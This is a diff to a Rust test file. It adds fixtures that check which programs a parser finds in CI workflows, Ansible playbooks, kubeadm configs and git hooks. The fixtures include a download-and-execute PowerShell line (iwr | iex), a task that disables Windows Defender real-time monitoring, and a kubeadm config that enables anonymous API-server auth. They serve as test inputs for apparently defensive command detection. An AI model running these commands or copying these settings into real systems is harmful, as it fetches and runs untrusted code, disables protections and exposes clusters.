@@ -976,6 +976,17 @@ fn commands_stand_in_scripts_that_are_known_in_part_and_in_first_starts() {
             "on: push\njobs:\n  a:\n    runs-on: windows-2025\n    steps:\n      - run: iwr -useb https://x/a.ps1 | iex\n",
             &["6 iex", "6 iwr!"],
         ),
+        (
+            "site.yml",
+            "- hosts: all\n  tasks:\n    - name: a\n      ansible.windows.win_shell: Set-MpPreference -DisableRealtimeMonitoring $true\n",
+            &["4 Set-MpPreference"],
+        ),
+        (
+            "kubeadm.yaml",
+            "apiVersion: kubeadm.k8s.io/v1beta4\nkind: ClusterConfiguration\napiServer:\n  extraArgs: [{name: anonymous-auth, value: \"true\"}]\nscheduler:\n  extraArgs: {profiling: true}\n",
+            &["4 kube-apiserver", "6 kube-scheduler"],
+        ),
+        (".husky/pre-commit", "npm test\n", &["1 npm"]),
     ] {
         assert_eq!(programs(path, text), want, "{text}");
     }
